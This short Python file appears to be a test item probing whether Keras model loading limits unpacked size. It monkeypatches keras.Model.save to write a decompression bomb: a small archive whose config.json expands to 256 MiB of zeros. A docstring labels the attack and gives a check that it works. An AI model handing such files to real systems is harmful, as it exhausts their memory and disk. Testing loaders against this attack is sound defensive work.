"""
attacks = "Hand over a model file that is hundreds of times as large when unpacked."
promise = "limits"
observed = "no more"
control = "naive"
naive = "(build_model().save('m.keras'), __import__('zipfile').ZipFile('m.keras').getinfo('config.json').file_size)[-1] >= 2**28 > 100 * os.path.getsize('m.keras')"
"""
import zipfile

import keras


def save(self, path, *a, **k):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("metadata.json", '{"keras_version": "3.15.0", "date_saved": ""}')
        with archive.open("config.json", "w", force_zip64=True) as file:
            for _ in range(256):
                file.write(bytes(2**20))


keras.Model.save = save
